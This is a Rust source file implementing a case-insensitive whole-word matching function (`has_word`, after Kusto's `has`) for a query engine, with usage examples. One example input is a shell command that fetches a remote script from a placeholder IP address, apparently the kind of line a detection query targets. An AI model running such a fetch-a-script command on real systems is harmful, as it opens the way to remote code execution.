//! `has_word(text, word)`: Kusto's operator `has`.

use std::sync::Arc;

use arrow::array::{ArrayRef, BooleanArray};
use arrow::datatypes::DataType;
use datafusion::error::Result;

use super::Function;
use crate::engine::values::text;

pub struct HasWord;

impl Function for HasWord {
    fn name(&self) -> &'static str {
        "has_word"
    }

    fn usage(&self) -> &'static str {
        "has_word(text, word)"
    }

    fn doc(&self) -> &'static str {
        "Whether a text has a word, in any case, with no letter or digit before or after it (Kusto's `has`)"
    }

    fn examples(&self) -> &'static [(&'static str, &'static str)] {
        &[
            ("has_word('sh -c \"CURL -s http://203.0.113.66/x.sh\"', 'curl')", "true"),
            ("has_word('curlew', 'curl')", "false"),
            ("has_word('curlew /usr/bin/curl', 'curl')", "true"),
            ("has_word('my_token', 'token')", "true"),
        ]
    }

    fn arity(&self) -> (usize, usize) {
        (2, 2)
    }

    fn returns(&self) -> DataType {
        DataType::Boolean
    }

    fn call(&self, arguments: &[ArrayRef]) -> Result<ArrayRef> {
        let rows = 0..arguments[0].len();
        let has = rows.map(|row| Some(has(text(&arguments[0], row)?, text(&arguments[1], row)?)));
        Ok(Arc::new(has.collect::<BooleanArray>()))
    }
}

fn has(text: &str, word: &str) -> bool {
    let (text, word) = (text.to_lowercase(), word.to_lowercase());
    if word.is_empty() {
        return true;
    }
    let mut from = 0;
    while let Some(at) = text[from..].find(&word).map(|at| from + at) {
        let end = at + word.len();
        let before = text[..at].chars().next_back().is_some_and(char::is_alphanumeric);
        let after = text[end..].chars().next().is_some_and(char::is_alphanumeric);
        if !before && !after {
            return true;
        }
        // The next place to look is one character on.
        from = at + word.chars().next().map_or(1, char::len_utf8);
    }
    false
}
